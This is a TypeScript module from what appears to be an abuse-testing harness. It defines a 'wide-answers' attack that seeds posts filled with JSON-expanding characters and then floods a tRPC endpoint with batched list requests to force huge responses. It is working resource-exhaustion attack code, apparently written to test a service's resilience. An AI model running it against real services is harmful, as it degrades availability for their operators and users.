import type { Attack, AttackTarget } from './attack.ts';
import { batch, flood, importPath, makeProfile, ndjson } from './requests.ts';

const CALLS = 50;
const POSTS = 100;
const LENGTH = 65_535;

/** Characters for the text of a post. The first is the longest in JSON; if the service refuses it, the next is used. */
const CHARACTERS = ['\u0001', '\u{1F600}'];

/** Requests a batch with the longest possible answer. */
export const wideAnswers: Attack = {
  name: 'wide-answers',
  about: `one tRPC GET, repeatedly: ${CALLS} × posts.list of ${POSTS} posts with ${LENGTH} × U+0001 (or the widest character that is accepted)`,
  async prepare(target) {
    const [attacker] = target.attackers;
    const profile = await makeProfile(target, attacker);
    for (const character of CHARACTERS) if (await takes(target, profile, character)) break;
    const inputs = Array.from({ length: CALLS }, () => ({ workspace: attacker.workspace, per_page: POSTS }));
    return (signal) => flood(1, signal, () => batch(target, attacker, 'posts.list', inputs));
  },
};

async function takes(target: AttackTarget, profile: string, character: string): Promise<boolean> {
  const [attacker] = target.attackers;
  const post = { profile, published_at: '2026-01-01T00:00:00Z', text: character.repeat(LENGTH) };
  const lines = Array.from({ length: POSTS }, (_, nth) => JSON.stringify({ ...post, external_id: String(nth) }));
  const response = await fetch(importPath(target, attacker), ndjson(attacker, lines.join('\n')));
  const { data } = (await response.json()) as { readonly data: { readonly created: number } };
  return data.created === POSTS;
}
